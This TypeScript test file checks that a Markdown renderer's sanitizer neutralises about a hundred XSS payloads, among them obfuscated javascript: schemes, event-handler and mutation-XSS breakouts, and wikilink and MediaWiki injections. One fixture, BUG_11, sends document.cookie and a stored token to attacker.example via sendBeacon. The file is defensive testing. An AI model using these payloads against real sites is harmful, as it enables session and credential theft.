import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { RenderOptions } from './markdown.ts';
import { renderMarkdown } from './markdown.ts';

// Hostile Markdown, rendered three ways: without wikilinks, with a resolver
// that encodes titles as a careful caller would, and with one that puts the
// raw title in the href. The output is read tag by tag with a strict parser
// and must hold nothing outside the allow-list below.

const ELEMENTS: Record<string, string[]> = {
  p: [],
  br: [],
  hr: ['class'],
  h1: ['id'],
  h2: ['id'],
  h3: ['id'],
  h4: ['id'],
  h5: ['id'],
  h6: ['id'],
  blockquote: [],
  ul: ['class'],
  ol: ['class', 'start'],
  li: ['class', 'id'],
  strong: [],
  em: [],
  s: [],
  del: [],
  code: [],
  pre: [],
  a: ['href', 'title', 'rel', 'class', 'id'],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['class'],
  td: ['class'],
  img: ['src', 'alt', 'title'],
  sup: ['class'],
  sub: [],
  span: ['class'],
  section: ['class'],
  label: ['class'],
  input: ['type', 'class', 'disabled', 'checked'],
};

const OWN_ID = /^(h-[\p{L}\p{M}\p{N}-]+|fn-\d+|fnref-\d+(:\d+)?)$/u;
const TAG =
  /^<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z][a-z0-9-]*(?:="[^"<>]*")?)*)\s*(\/?)>/;
const ATTRIBUTE = /\s+([a-z][a-z0-9-]*)(?:="([^"]*)")?/g;

interface Element {
  name: string;
  attributes: Map<string, string>;
}

/** Decodes the character references sanitize-html may leave in values. */
function decode(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) =>
      String.fromCodePoint(parseInt(hex, 16)),
    )
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(+dec))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/** Every element of some HTML; throws on anything it cannot read. */
function parseElements(html: string): Element[] {
  const elements: Element[] = [];
  let rest = html;
  for (let at = rest.indexOf('<'); at >= 0; at = rest.indexOf('<')) {
    rest = rest.slice(at);
    const match = TAG.exec(rest);
    if (match === null) {
      throw new Error(`unreadable markup: ${rest.slice(0, 60)}`);
    }
    if (match[1] === '') {
      const attributes = new Map<string, string>();
      for (const [, name = '', value = ''] of (match[3] ?? '').matchAll(
        ATTRIBUTE,
      )) {
        if (attributes.has(name)) {
          throw new Error(`repeated attribute ${name}`);
        }
        attributes.set(name, decode(value));
      }
      elements.push({ name: match[2] ?? '', attributes });
    }
    rest = rest.slice(match[0].length);
  }
  return elements;
}

/** Why a URL may not stand in rendered content, or null when it may. */
function urlProblem(url: string, element: string): string | null {
  const compact = url.replace(/[\s\u0000-\u001f\u007f-\u009f]/g, '');
  if (/^[/\\]{2}/.test(compact)) {
    return 'protocol-relative';
  }
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(compact)?.[1]?.toLowerCase();
  const allowed = element === 'img' ? ['http', 'https'] : ['http', 'https'];
  if (element === 'a') {
    allowed.push('mailto');
  }
  return scheme === undefined || allowed.includes(scheme)
    ? null
    : `scheme ${scheme}`;
}

/** Every way this HTML breaks the allow-list; empty when it is inert. */
function problems(html: string): string[] {
  const found: string[] = [];
  for (const { name, attributes } of parseElements(html)) {
    const allowed = ELEMENTS[name];
    if (allowed === undefined) {
      found.push(`element <${name}>`);
      continue;
    }
    for (const [attribute, value] of attributes) {
      if (!allowed.includes(attribute)) {
        found.push(`attribute ${attribute} on <${name}>`);
      } else if (attribute === 'href' || attribute === 'src') {
        const problem = urlProblem(value, name);
        if (problem !== null) {
          found.push(`${problem} in ${attribute} of <${name}>: ${value}`);
        }
      } else if (attribute === 'id' && !OWN_ID.test(value)) {
        found.push(`id ${value}`);
      }
    }
    if (
      name === 'input' &&
      (attributes.get('type') !== 'checkbox' || !attributes.has('disabled'))
    ) {
      found.push('an input other than a disabled checkbox');
    }
    const href = attributes.get('href') ?? '';
    if (name === 'a' && /^https?:/i.test(href.trim())) {
      if (attributes.get('rel') !== 'noopener noreferrer') {
        found.push(`external link without rel: ${href}`);
      }
    }
  }
  return found;
}

const RESOLVERS: Record<string, RenderOptions> = {
  'without wikilinks': {},
  'with an encoding resolver': {
    wikiLinks: {
      resolve: (link) => ({
        href:
          `/wiki/site/${encodeURIComponent(link.title)}` +
          (link.section === null ? '' : `#${link.section}`),
        exists: link.title.length % 2 === 0,
      }),
    },
  },
  'with a resolver that copies the raw title': {
    wikiLinks: {
      resolve: (link) => ({ href: link.title, exists: false }),
    },
  },
};

const BUG_11 =
  '# Welcome\n' +
  '<img src="x" onerror="navigator.sendBeacon(\'https://attacker.example/t\', ' +
  "document.cookie + localStorage.getItem('token'))\">\n" +
  '<iframe src="javascript:alert(1)"></iframe>\n' +
  '<a href="#" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>';

const HOSTILE: Record<string, string> = {
  'BUG-11 exact input': BUG_11,
  'javascript link': '[x](javascript:alert(1))',
  'mixed-case scheme': '[x](JaVaScRiPt:alert(1))',
  'tab entity in scheme': '[x](java&#x09;script:alert(1))',
  'named tab entity in scheme': '[x](javas&Tab;cript:alert(1))',
  'newline entity in scheme': '[x](jav&#x0A;ascript:alert(1))',
  'decimal entity first letter': '[x](&#106;avascript:alert(1))',
  'padded decimal entity': '[x](&#0000106avascript:alert(1))',
  'hex entity first letter': '[x](&#x6A;avascript:alert(1))',
  'entity colon': '[x](javascript&colon;alert(1))',
  'numeric entity colon': '[x](javascript&#58;alert(1))',
  'percent-encoded letter': '[x](%6Aavascript:alert(1))',
  'percent-encoded colon': '[x](javascript%3Aalert(1))',
  'percent-encoded newline in scheme': '[x](java%0ascript:alert(1))',
  'escaped colon': '[x](javascript\\:alert(1))',
  'angle-bracket destination': '[x](<javascript:alert(1)>)',
  'control character before scheme': '[x](\u0001javascript:alert(1))',
  'javascript with comment newline': '[x](javascript://%0Aalert(1))',
  'fullwidth scheme': '[x](ｊａｖａｓｃｒｉｐｔ:alert(1))',
  'data URL link':
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'upper-case data URL': '[x](DATA:text/html,<script>alert(1)</script>)',
  'vbscript link': '[x](vbscript:msgbox(1))',
  'file link': '[x](file:///etc/passwd)',
  'protocol-relative link': '[x](//attacker.example)',
  'backslash host link': '[x](/\\attacker.example)',
  'title breaking out of its quotes':
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
  'single-quoted title with quotes':
    '[x](https://ok.example \'a" onclick="alert(1)\')',
  'javascript image': '![x](javascript:alert(1))',
  'SVG data image':
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'PNG data image': '![x](data:image/png;base64,iVBORw0KGgo=)',
  'image URL breaking out': '![x](https://ok.example/a.png" onerror="alert(1))',
  'image alt breaking out': '![x" onerror="alert(1)](https://ok.example/a.png)',
  'mailto image': '![x](mailto:a@example.org)',
  'protocol-relative image': '![x](//attacker.example/a.png)',
  'javascript autolink': '<javascript:alert(1)>',
  'upper-case autolink': '<JAVASCRIPT:alert(1)>',
  'data autolink': '<data:text/html,<script>alert(1)</script>>',
  'vbscript autolink': '<vbscript:msgbox(1)>',
  'autolink breaking out': '<https://ok.example/"onmouseover="alert(1)>',
  'linkified URL with markup':
    'www.example.com/"><script>alert(1)</script> and ' +
    'https://ok.example/<img src=x onerror=alert(1)>',
  'reference to javascript': '[x][a]\n\n[a]: javascript:alert(1)',
  'collapsed reference in angle brackets':
    '[x]\n\n[x]: <javascript:alert(1)> "t"',
  'reference title breaking out':
    '[x][a]\n\n[a]: https://ok.example "\\" onclick=\\"alert(1)"',
  'image reference to javascript': '![x][i]\n\n[i]: javascript:alert(1)',
  'script element': '<script>alert(1)</script>',
  'image with handler': '<img src=x onerror=alert(1)>',
  'SVG with onload': '<svg onload=alert(1)><script>alert(1)</script></svg>',
  'MathML mutation':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'object and embed':
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  'form with formaction':
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  'autofocus input': '<input onfocus=alert(1) autofocus>',
  'base element': '<base href="javascript:alert(1)//">',
  'meta refresh':
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'raw javascript anchor': '<a href="javascript:alert(1)">x</a>',
  'entity-encoded raw anchor': '<a href="&#x6A;avascript:alert(1)">x</a>',
  'style attribute': '<div style="background:url(javascript:alert(1))">x</div>',
  'details ontoggle': '<details open ontoggle=alert(1)>x</details>',
  'comment hiding markup': '<!--<img src=x onerror=alert(1)>-->',
  'CDATA section': '<![CDATA[<script>alert(1)</script>]]>',
  'style element': '<style>*{background:url(javascript:alert(1))}</style>',
  'noscript mutation':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'template element': '<template><script>alert(1)</script></template>',
  'link import':
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  'wikilink title with script': '[[<script>alert(1)</script>]]',
  'wikilink label with image': '[[Page|<img src=x onerror=alert(1)>]]',
  'wikilink title breaking out of href': '[[" onmouseover="alert(1)]]',
  'wikilink label breaking out': '[[Page|" onmouseover="alert(1)]]',
  'wikilink to javascript': '[[javascript:alert(1)]]',
  'wikilink to entity-encoded javascript': '[[&#106;avascript:alert(1)]]',
  'wikilink to data URL': '[[data:text/html,<script>alert(1)</script>|x]]',
  'wikilink section breaking out': '[[Page#" onfocus="alert(1)]]',
  'wikilink section with SVG': '[[Page#<svg onload=alert(1)>]]',
  'wikilink inside a javascript link': '[evil [[Page]]](javascript:alert(1))',
  'wikilink label with Markdown image': '[[Page|![x](javascript:alert(1))]]',
  'wikilink to a protocol-relative title': '[[//attacker.example|x]]',
  'footnote label with script':
    'x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: note',
  'footnote label breaking out':
    'x[^a" onclick="alert(1)]\n\n[^a" onclick="alert(1)]: [x](javascript:alert(1))',
  'inline footnote with markup': 'x^[<img src=x onerror=alert(1)>]',
  'task item with raw input': '- [ ] <input type=checkbox onclick=alert(1)>',
  'task item with javascript link': '- [x] [x](javascript:alert(1))',
  'task item with hostile wikilink':
    '- [ ] [[Page|" autofocus onfocus="alert(1)]]',
  'table cell with script': '| a |\n|---|\n| <script>alert(1)</script> |',
  'aligned table cell with javascript link':
    '| a |\n|:-:|\n| [x](javascript:alert(1)) |',
  'table cell with raw cell': '| a |\n|---|\n| <td style="x" onclick="y"> |',
  'headings named after DOM globals':
    '# cookie\n# location\n# csrf\n# _csrf\n# __proto__\n# constructor\n' +
    '# forms\n# getElementById\n# body\n# window',
  'heading breaking out of its id': '# " onmouseover="alert(1)',
  'heading with markup': '# <img src=x onerror=alert(1)>',
  'MediaWiki template with script': '{{Template|<script>alert(1)</script>}}',
  'MediaWiki nowiki': '<nowiki><script>alert(1)</script></nowiki>',
  'MediaWiki ref with script':
    'Fact<ref><script>alert(1)</script></ref> and ' +
    '<ref name="x" onclick="alert(1)">a</ref>',
  'MediaWiki file link with handler': '[[File:x.png|onerror=alert(1)]]',
  'MediaWiki external link syntax': '[javascript:alert(1) click]',
  'MediaWiki table attributes':
    '{| class="wikitable" style="x"\n|-\n| onclick="alert(1)" | cell\n|}',
  'wikitext kept verbatim in a fence':
    '```wikitext\n<script>alert(1)</script>\n```',
  'deep nesting': `${'> '.repeat(500)}<script>alert(1)</script>`,
};

describe('hostile Markdown renders with nothing executable left', () => {
  test('the checker itself rejects what it must', () => {
    assert.deepEqual(problems('<p onclick="x">a</p>'), [
      'attribute onclick on <p>',
    ]);
    assert.deepEqual(problems('<a href="jav&#x61;script:x">a</a>'), [
      'scheme javascript in href of <a>: javascript:x',
    ]);
    assert.deepEqual(problems('<iframe></iframe><p style="x"></p>'), [
      'element <iframe>',
      'attribute style on <p>',
    ]);
    assert.deepEqual(problems('<h2 id="cookie">a</h2>'), ['id cookie']);
    assert.throws(() => problems("<a href='x'>a</a>"), /unreadable/);
  });

  for (const [mode, options] of Object.entries(RESOLVERS)) {
    for (const [name, source] of Object.entries(HOSTILE)) {
      test(`${name}, ${mode}`, () => {
        assert.deepEqual(problems(renderMarkdown(source, options)), []);
      });
    }
  }
});

describe('what hostile input turns into', () => {
  // The beacon's URL becomes an ordinary link that nothing follows unasked.
  test('BUG-11: the raw HTML is shown as text', () => {
    const html = renderMarkdown(BUG_11);

    assert.equal(
      html,
      '<h2 id="h-welcome">Welcome</h2>\n' +
        '<p>&lt;img src="x" onerror="navigator.sendBeacon(' +
        '\'<a href="https://attacker.example/t" ' +
        'rel="noopener noreferrer">https://attacker.example/t</a>\', ' +
        'document.cookie + ' +
        "localStorage.getItem('token'))\"&gt;\n" +
        '&lt;iframe src="javascript:alert(1)"&gt;&lt;/iframe&gt;\n' +
        '&lt;a href="#" style="position:fixed;top:0;left:0;width:100%;' +
        'height:100%"&gt;x&lt;/a&gt;</p>\n',
    );
  });

  test('headings named after DOM globals get prefixed ids', () => {
    const html = renderMarkdown(HOSTILE['headings named after DOM globals']!);
    const ids = [...html.matchAll(/ id="([^"]*)"/g)].map((m) => m[1]);

    assert.deepEqual(ids, [
      'h-cookie',
      'h-location',
      'h-csrf',
      'h-csrf-2',
      'h-proto',
      'h-constructor',
      'h-forms',
      'h-getelementbyid',
      'h-body',
      'h-window',
    ]);
  });

  test('a wikilink whose raw title is a script URL renders as text', () => {
    const html = renderMarkdown(
      '[[javascript:alert(1)|go]]',
      RESOLVERS['with a resolver that copies the raw title'],
    );

    assert.equal(html, '<p>go</p>\n');
  });

  test('a wikilink label with markup is escaped inside the link', () => {
    const html = renderMarkdown(
      '[[Page|<img src=x onerror=alert(1)>]]',
      RESOLVERS['with an encoding resolver'],
    );

    assert.equal(
      html,
      '<p><a href="/wiki/site/Page" class="app-wikilink">' +
        '&lt;img src=x onerror=alert(1)&gt;</a></p>\n',
    );
  });
});
